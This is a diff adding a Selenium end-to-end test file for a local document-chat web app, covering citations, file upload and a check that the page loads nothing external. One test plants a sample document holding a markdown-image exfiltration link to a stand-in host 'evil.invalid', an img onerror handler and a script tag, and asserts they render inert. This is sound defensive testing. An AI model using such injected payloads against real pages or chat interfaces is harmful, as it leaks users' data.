@@ -1,0 +1,184 @@
+"""End to end in real headless Chromium (Debian's chromium + chromedriver), driven with Selenium.
+
+Screenshots go to a temp folder printed at the end of the session (the README's come from there).
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlparse
+
+import pytest
+
+from tests.ui.conftest import Served
+
+pytestmark = pytest.mark.slow
+
+CHROMIUM = "/usr/bin/chromium"
+CHROMEDRIVER = "/usr/bin/chromedriver"
+FLAGS = (
+    "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking "
+    "--disable-component-update --disable-sync --disable-quic --window-size=1440,1000"
+).split()
+QUESTION = "Who was absent from Cyber Coalition 2023?"
+WAIT_S = 90
+
+
+@pytest.fixture(scope="module")
+def shots(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("screenshots")
+
+
+@pytest.fixture(scope="module")
+def browser(served: Served) -> Iterator[Any]:
+    from selenium import webdriver
+    from selenium.webdriver.chrome.service import Service
+
+    if not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()):
+        pytest.fail("Debian's chromium and chromium-driver are needed: apt-get install -y chromium chromium-driver")
+    profile = tempfile.mkdtemp(prefix="fonte-chromium-")
+    opts = webdriver.ChromeOptions()
+    opts.binary_location = CHROMIUM
+    for flag in [*FLAGS, f"--user-data-dir={profile}"]:
+        opts.add_argument(flag)
+    opts.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
+    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=opts)
+    driver.requested = []  # every URL the page asked for, gathered from the performance log
+    try:
+        yield driver
+    finally:
+        driver.quit()
+        shutil.rmtree(profile, ignore_errors=True)
+
+
+def _requests(driver: Any) -> list[str]:
+    for entry in driver.get_log("performance"):
+        msg = json.loads(entry["message"])["message"]
+        if msg["method"] in ("Network.requestWillBeSent", "Network.webSocketCreated"):
+            url = msg["params"].get("request", {}).get("url") or msg["params"].get("url", "")
+            driver.requested.append(url)
+    return list(driver.requested)
+
+
+def _wait(driver: Any, cond: Any, timeout: float = WAIT_S) -> Any:
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    return WebDriverWait(driver, timeout, poll_frequency=0.2).until(cond)
+
+
+def _css(driver: Any, selector: str) -> list[Any]:
+    from selenium.webdriver.common.by import By
+
+    return list(driver.find_elements(By.CSS_SELECTOR, selector))
+
+
+def _open(driver: Any, served: Served) -> None:
+    driver.get(served.url + "/")
+    _wait(driver, lambda d: _css(d, "#fonte-question textarea"))
+
+
+def _ask(driver: Any, question: str) -> Any:
+    """Type a question, send it, and wait for the finished answer (streaming cursor gone)."""
+    before = len(_css(driver, "#fonte-chat .message-row, #fonte-chat .message"))
+    box = _css(driver, "#fonte-question textarea")[0]
+    box.clear()
+    box.send_keys(question)
+    _css(driver, "#fonte-ask")[0].click()
+
+    def finished(d: Any) -> Any:
+        bots = _css(d, "#fonte-chat .bot")
+        if len(_css(d, "#fonte-chat .message-row, #fonte-chat .message")) <= before or not bots:
+            return False
+        text = bots[-1].text
+        return bots[-1] if text and "▍" not in text and "Searching your documents" not in text else False
+
+    return _wait(driver, finished)
+
+
+def _tab(driver: Any, name: str) -> None:
+    tab = [t for t in _css(driver, "button[role='tab']") if t.text.strip() == name]
+    tab[0].click()
+
+
+def _doc_count(driver: Any) -> int:
+    cells = _css(driver, "#fonte-collection .fonte-stat[data-key='documents'] .fonte-stat-v")
+    return int(cells[0].text) if cells and cells[0].text.strip().isdigit() else -1
+
+
+def test_ask_click_citation_and_see_the_highlighted_sentence(browser: Any, served: Served, shots: Path) -> None:
+    _open(browser, served)
+    browser.save_screenshot(str(shots / "01-empty.png"))
+    bot = _ask(browser, QUESTION)
+    assert "Montenegro" in bot.text
+    answer = served.assistant.ask(QUESTION)  # the same answer, to know each citation's quote
+    assert answer.citations and _css(browser, '#fonte-chat .bot a[href*="#fonte-cite-0-1"]')
+    assert _css(browser, "#fonte-sources mark.fonte-quote") and not _css(browser, "#fonte-sources .fonte-active")
+    browser.save_screenshot(str(shots / "02-answer.png"))
+    marks = {}
+    for c in answer.citations:  # [1] first
+        _css(browser, f'#fonte-chat .bot a[href*="#fonte-cite-0-{c.n}"]')[0].click()
+        card = _wait(browser, lambda d, n=c.n: _css(d, f"#fonte-sources .fonte-active[data-n='{n}']"))[0]
+        marks[c.n] = " ".join(card.find_element("css selector", "mark.fonte-quote").text.split())
+        assert marks[c.n] == " ".join(c.quote.split())
+        if c.n == 1:
+            browser.save_screenshot(str(shots / "03-source.png"))
+    assert any(all(name in m for name in ("Montenegro", "Lussemburgo", "Belgio")) for m in marks.values())
+    assert browser.current_url.rstrip("/") == served.url  # the clicks did not navigate
+
+
+def test_upload_a_file_and_see_it_counted(browser: Any, served: Served, shots: Path, tmp_path: Path) -> None:
+    _open(browser, served)
+    _tab(browser, "Documents")
+    before = _wait(browser, lambda d: _doc_count(d) if _doc_count(d) >= 0 else False)
+    doc = tmp_path / "harbour-report.md"
+    doc.write_text(
+        "# Harbour report\n\nThe harbour of Porto Azzurro reopened on 3 March after the storm. "
+        "The repair of the north pier cost 2.4 million euros and took eleven weeks.\n",
+        encoding="utf-8",
+    )
+    _css(browser, "#fonte-upload input[type='file']")[0].send_keys(str(doc))
+    _wait(browser, lambda d: _doc_count(d) == before + 1)
+    table = _wait(browser, lambda d: [t.text for t in _css(d, "#fonte-files") if "harbour-report.md" in t.text])
+    assert "added" in table[0]
+    browser.save_screenshot(str(shots / "04-documents.png"))
+    _tab(browser, "Ask")
+    bot = _ask(browser, "How much did the repair of the north pier cost?")
+    assert "2.4" in bot.text or "2,4" in bot.text
+
+
+def test_a_document_with_markdown_image_and_html_renders_inert(browser: Any, served: Served, tmp_path: Path) -> None:
+    from ingest.pipeline import ingest
+
+    evil = tmp_path / "falco-notes.txt"
+    evil.write_text(
+        "Project Falco notes.\n\nThe launch code of Project Falco ![x](http://evil.invalid/leak?q=falco) is kept in "
+        "vault nine <img src=http://evil.invalid/p.png onerror=window.pwned=1> under the old library "
+        "<script>window.pwned=2</script> of Lucca.\n",
+        encoding="utf-8",
+    )
+    ingest([evil], served.assistant.index, prune=False)
+    served.assistant.refresh()
+    _open(browser, served)
+    bot = _ask(browser, "Where is the launch code of Project Falco kept?")
+    assert "vault nine" in bot.text
+    _css(browser, '#fonte-chat .bot a[href*="#fonte-cite-"]')[0].click()
+    _wait(browser, lambda d: _css(d, "#fonte-sources mark.fonte-quote"))
+    page = browser.find_element("css selector", "body")
+    assert "evil.invalid" in page.text  # shown as text ...
+    assert not [i for i in _css(browser, "img") if "evil" in (i.get_attribute("src") or "")]  # ... never loaded
+    assert not _css(browser, "#fonte-chat script, #fonte-sources script")
+    assert browser.execute_script("return window.pwned === undefined")
+    assert not [u for u in _requests(browser) if "evil" in u]
+
+
+def test_the_page_loads_nothing_external(browser: Any, served: Served) -> None:
+    _open(browser, served)
+    here = urlparse(served.url).netloc
+    external = [u for u in _requests(browser) if u.startswith(("http", "ws")) and urlparse(u).netloc != here]
+    assert not external
+    assert any(urlparse(u).netloc == here for u in browser.requested)
